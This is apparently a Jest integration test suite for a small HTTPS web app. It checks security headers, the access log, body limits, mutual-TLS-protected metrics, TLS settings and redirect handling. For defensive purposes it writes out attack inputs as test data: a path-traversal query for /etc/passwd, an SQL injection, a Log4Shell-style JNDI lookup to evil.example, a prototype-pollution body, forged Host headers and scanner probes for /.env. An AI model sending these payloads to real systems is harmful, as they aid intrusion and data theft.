import { createHash } from 'node:crypto';
import https from 'node:https';
import tls, { type SecureVersion } from 'node:tls';
import { LOGGED_LENGTH } from '../../../constructs/web/access-log';
import { systemClock } from '../../../services/shared/clock';
import type { TlsMaterial } from '../../../services/shared/tls-server';
import { TlsAuthority } from '../../support/tls-authority';
import type { Answer } from '../../support/request';
import { eventually, PROMETHEUS, TestApp } from './support';

let authority: TlsAuthority;
let leaf: TlsMaterial;
let prometheus: TlsMaterial;
let app: TestApp;

beforeAll(async () => {
  authority = await TlsAuthority.create();
  [leaf, prometheus] = await Promise.all([
    authority.issue('sample-app'),
    authority.issue('prometheus'),
  ]);
  app = await TestApp.start(leaf);
}, 60_000);
afterAll(() => app.stop());

const sample = async (series: string): Promise<number | undefined> => {
  const { text } = await app.scrape(prometheus);
  const line = text.split('\n').find((one) => one.startsWith(`${series} `));
  return line === undefined ? undefined : Number(line.slice(series.length));
};

describe('pages', () => {
  test.each(['/', '/login'])('%s is a form that loads nothing from anywhere', async (url) => {
    const { status, headers, text } = await app.get(url);
    expect(status).toBe(200);
    expect(headers['content-type']).toBe('text/html; charset=utf-8');
    expect(text).toContain('<form method="post" action="/login">');
    expect(text).not.toMatch(/\bsrc=|<link|<script|https?:/);
    const style = /<style>(.*)<\/style>/s.exec(text)?.[1] ?? '';
    const hash = createHash('sha256').update(style).digest('base64');
    expect(headers['content-security-policy']).toBe(
      `default-src 'none'; style-src 'sha256-${hash}'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'`,
    );
  });

  test.each([
    ['/', 'GET', 200],
    ['/absent', 'GET', 404],
    ['/%zz', 'GET', 400],
    ['/error', 'GET', 500],
    ['/', 'PROPFIND', 404],
  ])('every answer has the headers that protect browsers: %s %s', async (url, method, status) => {
    const answer = await app.get(url, { method });
    expect(answer.status).toBe(status);
    expect(answer.headers).toMatchObject({
      'strict-transport-security': 'max-age=31536000',
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cache-control': 'no-store',
      'content-security-policy': expect.stringContaining("default-src 'none'") as string,
      'x-request-id': expect.stringMatching(/^[\w-]{36}$/) as string,
    });
  });

  test('what does not exist is told as the client likes it', async () => {
    const json = await app.get('/absent', { headers: { 'x-request-id': 'id-1' } });
    expect(JSON.parse(json.text)).toEqual({ error: 'Not Found', requestId: 'id-1' });
    const html = await app.get('/absent', { headers: { accept: 'text/html,*/*;q=0.8' } });
    expect(html.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(html.text).toContain('<h1>Not Found</h1>');
  });

  test('an exception is 500 with an id, and one ERROR with the stack', async () => {
    const { status, text } = await app.get('/error', { headers: { 'x-request-id': 'broken-1' } });
    expect(status).toBe(500);
    expect(JSON.parse(text)).toEqual({ error: 'Internal Server Error', requestId: 'broken-1' });
    const lines = app.lines.filter(({ level }) => level === 'ERROR');
    const [line] = lines.filter(({ requestId }) => requestId === 'broken-1');
    expect(line).toMatchObject({
      msg: 'Request failed',
      err: {
        message: 'deliberate failure, to see how one is reported',
        stack: expect.stringMatching(/^Error: deliberate.*\n +at /) as string,
      },
    });
  });
});

describe('the access log', () => {
  test('is one line with these fields', async () => {
    const headers = { 'x-request-id': 'log-1', 'user-agent': 'curl/8' };
    const { text } = await app.get('/login?password=oops', { headers });
    const line = await app.access('log-1');
    expect(line).toEqual({
      level: 'INFO',
      time: expect.stringMatching(/^\d{4}-\d\d-\d\dT.*Z$/) as string,
      service: 'sample-app',
      method: 'GET',
      path: '/login?password=oops',
      status: 200,
      bytes: Buffer.byteLength(text),
      durationMs: expect.any(Number) as number,
      client: '127.0.0.1',
      userAgent: 'curl/8',
      requestId: 'log-1',
    });
  });

  test('has a line for what reaches no route, too', async () => {
    const { headers } = await app.get('/%zz?x', {});
    const line = await app.access(headers['x-request-id']);
    expect(line).toMatchObject({ path: '/%zz?x', status: 400 });
  });

  test.each([
    '/?f=../../etc/passwd',
    '/?id=1+union+select+1',
    '/?x=%24%7Bjndi:ldap://evil.example/a}',
  ])('has the query, where attacks stand: %s', async (url) => {
    const { headers } = await app.get(url);
    expect((await app.access(headers['x-request-id'])).path).toBe(url);
  });

  test('HEAD has no bytes', async () => {
    const { headers } = await app.get('/', { method: 'HEAD' });
    expect(await app.access(headers['x-request-id'])).toMatchObject({ status: 200, bytes: 0 });
  });

  test('probes leave no line', async () => {
    const { status, headers } = await app.get('/healthz');
    expect(status).toBe(200);
    const after = await app.get('/');
    await app.access(after.headers['x-request-id']);
    expect(app.lines.filter((line) => line.requestId === headers['x-request-id'])).toEqual([]);
  });

  test('does not believe X-Forwarded-For', async () => {
    const { headers } = await app.get('/', { headers: { 'x-forwarded-for': '203.0.113.9' } });
    const line = await app.access(headers['x-request-id']);
    expect(line.client).toBe('127.0.0.1');
  });

  test('long and invisible text is cut', async () => {
    const userAgent = `a\u200e\t${'b'.repeat(500)}`;
    const headers = { 'user-agent': Buffer.from(userAgent).toString('latin1') };
    const answer = await app.get(`/?${'p'.repeat(2000)}`, { headers });
    const line = await app.access(answer.headers['x-request-id']);
    expect(line.path).toHaveLength(LOGGED_LENGTH.path);
    expect(line.userAgent).toHaveLength(LOGGED_LENGTH.userAgent);
    expect(line.userAgent).not.toMatch(/\p{Cc}/u);
  });

  test.each([
    ['too long', 'a'.repeat(65)],
    ['with spaces', 'a b'],
    ['with quotes', '"}'],
    ['empty', ''],
    ['twice', ['a', 'b']],
  ])('a request id %s is replaced', async (_what, given) => {
    const { headers } = await app.get('/', { headers: { 'x-request-id': given } });
    expect(headers['x-request-id']).toMatch(/^[\da-f-]{36}$/);
  });

  test('a client that goes away is 499, and in flight no more', async () => {
    const headers = { 'x-request-id': 'gone-1', 'content-type': 'application/json' };
    const length = { ...headers, 'content-length': 100 };
    const options = { ...app.options(), path: '/login', method: 'POST', headers: length };
    const request = https.request(options);
    request.on('error', () => undefined);
    request.write('{"username":');
    await systemClock.sleep(100);
    expect(await sample('http_requests_in_flight')).toBe(1);
    request.destroy();
    expect(await app.access('gone-1')).toMatchObject({ status: 499, bytes: 0 });
    expect(app.lines.filter(({ requestId }) => requestId === 'gone-1')).toHaveLength(1);
    expect(await sample('http_requests_in_flight')).toBe(0);
  });
});

describe('bodies', () => {
  const post = (type: string, body: string): Promise<number> =>
    app
      .get('/login', { method: 'POST', headers: { 'content-type': type } }, body)
      .then(({ status }) => status);

  test.each([
    ['more than 16 KiB', 'application/json', `{"username":"${'a'.repeat(17_000)}"}`, 413],
    ['another type', 'application/xml', 'x', 415],
    ['no JSON', 'application/json', '{', 400],
    ['no password', 'application/json', '{"username":"ada"}', 400],
    ['a number', 'application/json', '{"username":"ada","password":1}', 400],
    ['a name twice', 'application/x-www-form-urlencoded', 'username=a&username=b&password=c', 400],
    ['a poisoned prototype', 'application/json', '{"__proto__":{"username":"a"}}', 400],
  ])('%s', async (_what, type, body, status) => expect(await post(type, body)).toBe(status));

  test('one that does not arrive in time ends the connection', async () => {
    const socket = tls.connect({ ...(app.options() as tls.ConnectionOptions) });
    const since = Date.now();
    socket.write(
      'POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 9\r\n\r\n{',
    );
    let text = '';
    socket.on('data', (chunk: Buffer) => (text += chunk.toString()));
    socket.on('error', () => undefined);
    await new Promise((resolve) => socket.once('close', resolve));
    expect(text).toMatch(/^HTTP\/1.1 408 /);
    expect(Date.now() - since).toBeGreaterThan(9_000);
  }, 20_000);
});

describe('metrics', () => {
  test('count requests by route, never by path or unknown method', async () => {
    const before = (await sample('http_requests_total{method="GET",route="none",code="404"}')) ?? 0;
    await app.get('/wp-login.php');
    await app.get('/.env?a=b');
    await app.get('/', { method: 'MKCOL' });
    await app.get('/?x=1');
    const after = await app.scrape(prometheus);
    expect(await sample('http_requests_total{method="GET",route="none",code="404"}')).toBe(
      before + 2,
    );
    expect(await sample('http_requests_total{method="other",route="none",code="404"}')).toBe(2);
    expect(after.text).not.toMatch(/wp-login|\.env|MKCOL|\?/);
    expect(after.text).toMatch(/^http_requests_total\{method="GET",route="\/",code="200"\} \d/m);
  });

  test('time them', async () => {
    await app.get('/healthz');
    const series = 'http_request_duration_seconds_bucket{le="10",method="GET",route="/healthz"}';
    expect(await sample(series)).toBeGreaterThan(0);
  });

  test('say what runs, and are there before the first event', async () => {
    expect(await sample(`app_build_info{version="0.1.0",node_version="${process.version}"}`)).toBe(
      1,
    );
    expect(await sample('login_attempts_total{outcome="overloaded"}')).toBe(0);
    expect(await sample('process_resident_memory_bytes')).toBeGreaterThan(0);
  });

  test('are nothing for everyone else', async () => {
    await expect(app.scrape({})).rejects.toThrow(/certificate required|ECONNRESET|socket hang up/);
    expect((await app.scrape(leaf)).status).toBe(403);
    expect((await app.get('/metrics')).status).toBe(404);
    expect(app.said('TLS handshake error')).toHaveLength(1);
    expect(app.said('identity not allowed')).toEqual([
      expect.objectContaining({
        level: 'WARNING',
        identity: 'spiffe://vigil/ns/monitoring/sa/sample-app',
        client: '127.0.0.1',
        method: 'GET',
        path: '/metrics',
      }),
    ]);
  });

  test('are all that their listener has', async () => {
    expect((await app.scrape(prometheus, { path: '/' })).status).toBe(404);
    expect((await app.scrape(prometheus, { method: 'POST' })).status).toBe(404);
  });
});

describe('TLS', () => {
  const connect = (options: tls.ConnectionOptions): Promise<string | null> =>
    new Promise((resolve, reject) => {
      const socket = tls.connect({ ...(app.options() as tls.ConnectionOptions), ...options });
      socket.once('error', reject);
      socket.once('secureConnect', () => {
        resolve(`${socket.getProtocol()} ${socket.getCipher().name}`);
        socket.destroy();
      });
    });
  const only = (version: SecureVersion, ciphers?: string): tls.ConnectionOptions => ({
    minVersion: version,
    maxVersion: version,
    ciphers,
  });

  test('1.2 and 1.3 work, with forward secrecy', async () => {
    expect(await connect(only('TLSv1.3'))).toMatch(/^TLSv1.3 TLS_/);
    expect(await connect(only('TLSv1.2'))).toMatch(/^TLSv1.2 ECDHE-.*GCM/);
  });

  test.each([
    ['1.1', only('TLSv1.1', 'DEFAULT@SECLEVEL=0')],
    ['CBC', only('TLSv1.2', 'ECDHE-RSA-AES128-SHA256')],
    ['no forward secrecy', only('TLSv1.2', 'AES128-GCM-SHA256')],
  ])('%s does not', async (_what, options) => {
    await expect(connect(options)).rejects.toThrow(/alert|handshake/i);
  });
});

describe('plain HTTP', () => {
  const to = (url: string): string => `https://localhost:${app.running.ports.public}${url}`;

  test.each([
    ['GET', '/login?a=b', 'localhost:8080'],
    ['POST', '/login', 'localhost'],
    ['GET', '//evil.example/', 'LOCALHOST'],
  ])('%s %s of %s redirects to HTTPS', async (method, url, host) => {
    const { status, headers } = await app.plain(url, { method, headers: { host } });
    expect(status).toBe(308);
    expect(headers.location?.toLowerCase()).toBe(to(url));
  });

  test('a path that is not one is refused', async () => {
    for (const url of ['/%zz', 'http://evil.example/']) {
      const { status, headers } = await app.plain(url, { headers: { host: 'localhost' } });
      expect([status, headers.location]).toEqual([400, undefined]);
    }
  });

  test.each([
    'evil.example',
    'localhost@evil.example',
    'localhost.evil.example',
    '127.0.0.1',
    'a b',
  ])('the forged name %s is refused', async (host) => {
    const { status, headers } = await app.plain('/', { headers: { host } });
    expect(status).toBe(400);
    expect(headers.location).toBeUndefined();
  });

  test('serves nothing else, says no HSTS, and is logged', async () => {
    const headers = { host: 'localhost', 'x-request-id': 'plain-1' };
    const answer = await app.plain('/healthz', { headers });
    expect(answer.status).toBe(308);
    expect(answer.headers).not.toHaveProperty('strict-transport-security');
    expect(await app.access('plain-1')).toMatchObject({ path: '/healthz', status: 308 });
  });
});

describe('settings', () => {
  let other: TestApp;
  beforeAll(async () => {
    other = await TestApp.start(leaf, { TRUST_PROXY: '10.0.0.0/8, 127.0.0.1', HTTPS_PORT: '443' });
  });
  afterAll(() => other.stop());

  test('TRUST_PROXY: the client is who the proxy says', async () => {
    const forwarded = { 'x-forwarded-for': '198.51.100.1, 203.0.113.9', 'x-request-id': 'proxy-1' };
    await other.get('/', { headers: forwarded });
    expect((await other.access('proxy-1')).client).toBe('203.0.113.9');
  });

  test('HTTPS_PORT: redirects lead there', async () => {
    const { headers } = await other.plain('/', { headers: { host: 'localhost:80' } });
    expect(headers.location).toBe('https://localhost/');
  });
});

describe('visitors with certificates', () => {
  let closed: TestApp;
  beforeAll(async () => {
    closed = await TestApp.start(leaf, { PUBLIC_CLIENTS: PROMETHEUS });
  });
  afterAll(() => closed.stop());

  const visit = ({ cert, key }: Partial<TlsMaterial>): Promise<Answer> =>
    closed.get('/', { cert, key, headers: { 'x-request-id': 'visit-1' } });

  test('those of the list are served', async () => {
    expect((await visit(prometheus)).status).toBe(200);
  });

  test('others of our authority are refused, and logged', async () => {
    expect((await visit(leaf)).status).toBe(403);
    await eventually(() =>
      closed.lines.some(({ requestId, status }) => requestId === 'visit-1' && status === 403),
    );
    expect(closed.said('identity not allowed')).toMatchObject([
      { identity: 'spiffe://vigil/ns/monitoring/sa/sample-app', method: 'GET', path: '/' },
    ]);
  });

  test('nobody else is listened to', async () => {
    const refused = /certificate required|unknown ca|ECONNRESET|socket hang up/;
    await expect(visit({})).rejects.toThrow(refused);
    const stranger = await (await TlsAuthority.create()).issue('prometheus');
    await expect(visit(stranger)).rejects.toThrow(refused);
    await eventually(() => closed.said('TLS handshake error').length === 2);
  });

  test('a new authority is believed once it is there', async () => {
    const newcomer = await (await TlsAuthority.create()).issue('prometheus');
    closed.files.writeTls({ ...leaf, ca: `${leaf.ca}${newcomer.ca}` });
    await eventually(() => closed.said('the certificate was renewed').length > 0);
    expect((await visit(newcomer)).status).toBe(200);
    expect((await visit(prometheus)).status).toBe(200);
  });
});

test('a certificate is renewed under load, and no request fails', async () => {
  const material = await authority.issue('sample-app');
  const agent = new https.Agent({ keepAlive: true, maxSockets: 1 });
  const failures: unknown[] = [];
  const served = new Set<string>();
  let running = true;
  let requests = 0;
  const load = async (options: https.RequestOptions): Promise<void> => {
    while (running) {
      try {
        const { status } = await app.get('/', options);
        requests += 1;
        if (status !== 200) failures.push(status);
      } catch (error) {
        failures.push(error);
      }
    }
  };
  const fingerprint = (): Promise<string> =>
    new Promise((resolve, reject) => {
      const socket = tls.connect(app.options() as tls.ConnectionOptions, () => {
        resolve(socket.getPeerCertificate().fingerprint256);
        socket.destroy();
      });
      socket.once('error', reject);
    });
  const work = [load({ agent }), load({}), load({})];
  const old = await fingerprint();
  app.files.writeTls(material);
  for (const deadline = Date.now() + 10_000; served.size < 1 && Date.now() < deadline;) {
    const now = await fingerprint();
    if (now !== old) served.add(now);
  }
  await systemClock.sleep(100);
  running = false;
  await Promise.all(work);
  expect(failures).toEqual([]);
  expect(requests).toBeGreaterThan(20);
  expect(served.size).toBe(1);
  expect(Object.values(agent.freeSockets).flat()).toHaveLength(1);
  agent.destroy();
  expect((await app.scrape(prometheus)).status).toBe(200);
}, 30_000);
